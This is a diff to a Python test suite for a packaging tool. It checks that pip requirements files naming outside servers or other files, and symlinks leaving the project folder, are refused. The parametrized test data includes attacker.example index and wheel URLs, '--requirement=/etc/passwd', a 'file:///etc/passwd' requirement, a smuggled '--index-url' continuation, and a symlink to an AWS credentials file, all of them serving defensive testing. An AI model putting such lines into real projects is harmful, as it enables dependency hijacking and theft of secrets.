@@ -45,9 +45,7 @@ def user_code(tmp_path: Path) -> Path:
 
 
 def test_requirements_are_shipped_as_wheels_with_an_index_free_requirements_file(offline_pip, user_code: Path) -> None:
-    (user_code / "requirements.txt").write_text(
-        "--index-url https://pypi.org/simple\n--extra-index-url https://example.com/simple\ntabulate==0.10.0\n"
-    )
+    (user_code / "requirements.txt").write_text("# tables\ntabulate==0.10.0  # pinned\n\n")
     package = pack(user_code, "train.py", image_uri=DLC)
     assert package.wheels == ("tabulate-0.10.0-py3-none-any.whl",)
     with tarfile.open(package.tarball) as tar:
@@ -57,8 +55,67 @@ def test_requirements_are_shipped_as_wheels_with_an_index_free_requirements_file
     assert names == sorted(names) and {"train.py", "wheels/tabulate-0.10.0-py3-none-any.whl"} <= set(names)
     assert all(m.mtime == 315532800 and m.uid == 0 and m.uname == "root" for m in members)
     lines = requirements.splitlines()
-    assert "--no-index" in lines and "--find-links wheels" in lines and "tabulate==0.10.0" in lines
-    assert not any("pypi.org" in line or "example.com" in line for line in lines)
+    assert lines[2:4] == ["--no-index", "--find-links wheels"] and "tabulate==0.10.0  # pinned" in lines
+
+
+# Every way pip's line syntax lets a requirements file name a server or another file, and what is no requirement.
+@pytest.mark.parametrize(
+    ("line", "refusal"),
+    [
+        ("-f https://attacker.example/wheels", "pip options are not allowed"),
+        ("--find-links=https://attacker.example/wheels", "pip options are not allowed"),
+        ("-i https://attacker.example/simple", "pip options are not allowed"),
+        ("--index-url https://attacker.example/simple", "pip options are not allowed"),
+        ("--extra-index-url https://attacker.example/simple", "pip options are not allowed"),
+        ("--trusted-host attacker.example", "pip options are not allowed"),
+        ("-e git+https://attacker.example/repo.git#egg=x", "pip options are not allowed"),
+        ("-r other.txt", "pip options are not allowed"),
+        ("-c constraints.txt", "pip options are not allowed"),
+        ("--requirement=/etc/passwd", "pip options are not allowed"),
+        ("tabulate @ https://attacker.example/tabulate-0.10.0-py3-none-any.whl", "a requirement from a URL"),
+        ("tabulate@file:///etc/passwd", "a requirement from a URL"),
+        ("https://attacker.example/tabulate-0.10.0-py3-none-any.whl", "not a requirement"),
+        ("./wheels/tabulate-0.10.0-py3-none-any.whl", "not a requirement"),
+        ("tabulate==0.10.0 --hash=sha256:00", "not a requirement"),
+        ("tabulate==${VERSION}", "not a requirement"),
+        ("tabulate \\\n  --index-url https://attacker.example/simple", "not a requirement"),
+    ],
+)
+def test_a_requirements_line_that_is_not_a_requirement_by_name_is_refused_naming_file_and_line(
+    user_code: Path, line: str, refusal: str
+) -> None:
+    (user_code / "requirements.txt").write_text(f"# ok\ntabulate==0.10.0\n{line}\n")
+    with pytest.raises(PackagingError, match=rf"requirements\.txt, line 3: .*{re.escape(refusal)}"):
+        pack(user_code, "train.py", image_uri=DLC)
+
+
+def test_a_link_out_of_the_folder_is_refused_naming_it(user_code: Path, tmp_path: Path) -> None:
+    secret = tmp_path / "credentials"
+    secret.write_text("[default]\naws_secret_access_key = x\n")
+    (user_code / "config").mkdir()
+    (user_code / "config" / "aws").symlink_to(secret)
+    with pytest.raises(PackagingError, match=r"config/aws: a symbolic link to .*credentials, outside"):
+        pack(user_code, "train.py", image_uri=DLC)
+    (user_code / "config" / "aws").unlink()
+    (user_code / "outside").symlink_to(tmp_path)  # a folder outside, and one that holds the project (a loop)
+    with pytest.raises(PackagingError, match=r"/outside: a symbolic link to .*, outside"):
+        pack(user_code, "train.py", image_uri=DLC)
+
+
+def test_links_inside_the_folder_are_packed_as_their_content_and_loops_are_refused(user_code: Path) -> None:
+    (user_code / "requirements.txt").unlink(missing_ok=True)  # nothing to resolve: no pip needed
+    (user_code / "lib").mkdir()
+    (user_code / "lib" / "helpers.py").write_text("VALUE = 1\n")
+    (user_code / "shared").symlink_to(user_code / "lib", target_is_directory=True)
+    (user_code / "alias.py").symlink_to(user_code / "lib" / "helpers.py")
+    package = pack(user_code, "train.py")
+    with tarfile.open(package.tarball) as tar:
+        assert {"lib/helpers.py", "shared/helpers.py", "alias.py"} <= set(tar.getnames())
+        assert all(member.isfile() for member in tar.getmembers())
+        assert tar.extractfile("shared/helpers.py").read() == b"VALUE = 1\n"  # type: ignore[union-attr]
+    (user_code / "lib" / "up").symlink_to(user_code, target_is_directory=True)
+    with pytest.raises(PackagingError, match=r"lib/up: a symbolic link to .*, a folder that contains it"):
+        pack(user_code, "train.py")
 
 
 def test_an_unresolvable_requirement_fails_at_packing_time_naming_it(offline_pip, user_code: Path) -> None:
